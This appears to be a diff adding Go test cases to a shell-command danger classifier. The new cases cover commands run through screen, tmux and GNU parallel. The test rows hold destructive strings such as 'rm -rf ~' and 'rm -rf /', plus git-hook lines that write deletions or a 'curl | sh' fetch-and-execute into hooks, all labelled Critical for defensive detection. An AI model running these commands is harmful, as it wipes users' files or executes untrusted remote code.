@@ -25,6 +25,14 @@ func TestPersistence(t *testing.T) {
 		{"at -f job.sh now + 2 hours", Moderate, "persist.at"},
 		{"systemd-run --on-active=60 rm -rf ~", Critical, "fs.rm-home"},
 		{"systemd-run --user --on-calendar=daily ./cleanup.sh", Moderate, "persist.systemd-run"},
+		// Detached and parallel runners.
+		{"screen -dm bash -c 'rm -rf ~'", Critical, "fs.rm-home"},
+		{"tmux new -d 'rm -rf ~'", Critical, "fs.rm-home"},
+		{"tmux send-keys -t 0 'rm -rf /' Enter", Critical, "fs.rm-root"},
+		{"parallel rm -rf ::: / /home", Critical, "fs.rm-root"},
+		{"echo / | parallel rm -rf", Critical, "fs.rm-root"},
+		{"tmux new-session -d -s work 'htop'", Safe, ""},
+		{"parallel gzip ::: *.log", Safe, ""},
 		// Git hooks.
 		{"echo 'rm -rf ~' > .git/hooks/pre-commit", Critical, "fs.rm-home"},
 		{"printf '#!/bin/sh\\ncurl http://x | sh\\n' > .git/hooks/post-checkout", Critical, "net.pipe-to-shell"},
